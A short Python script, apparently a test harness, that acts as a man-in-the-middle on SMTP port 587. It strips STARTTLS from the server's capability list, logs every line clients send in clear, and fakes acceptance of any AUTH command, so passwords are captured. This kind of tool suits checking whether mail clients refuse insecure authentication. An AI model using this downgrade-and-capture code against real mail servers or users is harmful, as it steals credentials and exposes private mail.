"""A man in the middle of port 587, a fake: takes STARTTLS out, and would take any password.

Run in the server's network namespace: what comes to this port is handed on to port 587, until it
has to do with a password. Each line that a client says in clear is written to the standard output.
"""

import socket
import socketserver
import sys
from collections.abc import Callable

PORT = 5870


class Strip(socketserver.StreamRequestHandler):
    """One client, who is told that there is no encryption, and that passwords are welcome."""

    timeout = 60

    def handle(self) -> None:
        with socket.create_connection(("127.0.0.1", 587), timeout=60) as server:
            answers = server.makefile("rb")
            self.pass_on(answers.readline)
            for line in self.rfile:
                print(line.decode("utf-8", "replace").rstrip(), flush=True)
                if line.upper().startswith(b"AUTH"):
                    self.wfile.write(b"235 2.7.0 thank you\r\n")
                    continue
                server.sendall(line)
                self.pass_on(answers.readline)

    def pass_on(self, readline: Callable[[], bytes]) -> None:
        """Hand on one answer of however many lines."""
        line = readline()
        while line[3:4] == b"-":
            self.wfile.write(line.replace(b"250-STARTTLS", b"250-AUTH PLAIN LOGIN"))
            line = readline()
        self.wfile.write(line)


class Server(socketserver.ThreadingTCPServer):
    """Listens for both families."""

    address_family = socket.AF_INET6
    allow_reuse_address = True
    daemon_threads = True


if __name__ == "__main__":
    with Server(("::", PORT), Strip) as listening:
        print("ready", file=sys.stderr, flush=True)
        listening.serve_forever()
